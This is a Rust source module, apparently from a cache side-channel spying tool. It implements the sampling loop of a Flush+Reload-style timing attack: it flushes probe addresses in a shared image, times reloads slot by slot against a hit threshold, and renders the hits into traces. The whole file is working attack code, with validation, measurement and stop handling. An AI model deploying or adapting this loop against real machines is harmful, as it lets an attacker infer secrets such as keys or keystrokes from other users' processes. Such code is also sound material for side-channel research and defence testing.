use crate::error::SpyError;
use crate::probe::ResolvedProbe;
use crate::trace::{render, TraceBuffer};
use crate::{MAX_PROBES, MAX_SLOT_SIZE};
use cache_side_channel::{Threshold, TimingChannelPrimitives};
use std::sync::atomic::{AtomicBool, Ordering};

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AttackOutcome {
    /// The buffer filled up, rendered as one trace line.
    Trace(String),
    /// A stop was requested, the records collected so far were dropped.
    Stopped { discarded: usize },
}

/// Slot sampler.
///
/// Cycle time is cut in slots of `slot` cycles. Every slot each probe is
/// reloaded and flushed once; slots where at least one probe hit are kept in
/// a buffer of `slot` records, which is rendered once full.
#[derive(Debug)]
pub struct AttackLoop<'a, P: TimingChannelPrimitives> {
    primitives: P,
    probes: Vec<ResolvedProbe<'a>>,
    names: Vec<char>,
    threshold: Threshold,
    slot: u64,
    buffer: TraceBuffer,
    quiet_len: u64,
    last_completed_slot_end: u64,
}

impl<'a, P: TimingChannelPrimitives> AttackLoop<'a, P> {
    pub fn new(
        mut primitives: P,
        probes: Vec<ResolvedProbe<'a>>,
        threshold: Threshold,
        slot: u64,
    ) -> Result<Self, SpyError> {
        if slot == 0 || slot > MAX_SLOT_SIZE {
            return Err(SpyError::SlotOutOfRange(slot));
        }
        if probes.is_empty() {
            return Err(SpyError::NoProbes);
        }
        if probes.len() > MAX_PROBES {
            return Err(SpyError::TooManyProbes {
                count: probes.len(),
            });
        }
        for probe in &probes {
            // The pointer borrows a live image for 'a.
            unsafe { primitives.flush(probe.pointer.as_ptr()) };
        }
        let last_completed_slot_end = primitives.read_cycles();
        let names = probes.iter().map(|p| p.name).collect();
        Ok(AttackLoop {
            primitives,
            probes,
            names,
            threshold,
            slot,
            buffer: TraceBuffer::with_capacity(slot as usize),
            quiet_len: 0,
            last_completed_slot_end,
        })
    }

    /// Samples one slot, returning the rendered trace when the buffer fills up.
    pub fn step(&mut self) -> Result<Option<String>, SpyError> {
        let start = self.primitives.read_cycles();
        if start < self.last_completed_slot_end {
            return Err(SpyError::NonMonotonicClock {
                start,
                last_end: self.last_completed_slot_end,
            });
        }
        let end = start.saturating_add(self.slot);

        let record = self.buffer.pending();
        record.missed = (start - self.last_completed_slot_end) / self.slot;
        let mut hit = false;
        for (i, probe) in self.probes.iter().enumerate() {
            let latency = unsafe { self.primitives.measure_and_flush(probe.pointer.as_ptr()) };
            record.probe_latencies[i] = latency;
            hit |= self.threshold.is_hit(latency);
        }

        if hit {
            self.quiet_len = 0;
            self.buffer.commit();
        } else {
            self.quiet_len += 1;
        }

        if !self.buffer.is_empty() && self.quiet_len >= MAX_SLOT_SIZE {
            log::debug!(
                "Nothing for {} slots, dropping {} records",
                self.quiet_len,
                self.buffer.len()
            );
            self.buffer.reset();
        }

        let mut now = self.primitives.read_cycles();
        while now < end {
            now = self.primitives.read_cycles();
        }
        self.last_completed_slot_end = now;

        if self.buffer.is_full() {
            let trace = render(self.buffer.committed(), &self.names, self.threshold);
            self.buffer.reset();
            return Ok(Some(trace));
        }
        Ok(None)
    }

    /// Steps until the buffer is full or `stop` is raised.
    ///
    /// `stop` is only looked at between slots, a measurement is never cut short.
    pub fn run(&mut self, stop: &AtomicBool) -> Result<AttackOutcome, SpyError> {
        loop {
            if stop.load(Ordering::SeqCst) {
                let discarded = self.buffer.len();
                if discarded > 0 {
                    log::warn!("Stop requested, discarding {} slot records", discarded);
                }
                self.buffer.reset();
                return Ok(AttackOutcome::Stopped { discarded });
            }
            if let Some(trace) = self.step()? {
                return Ok(AttackOutcome::Trace(trace));
            }
        }
    }

    pub fn quiet_len(&self) -> u64 {
        self.quiet_len
    }

    pub fn buffered(&self) -> usize {
        self.buffer.len()
    }

    pub fn last_completed_slot_end(&self) -> u64 {
        self.last_completed_slot_end
    }

    pub fn primitives(&self) -> &P {
        &self.primitives
    }
}
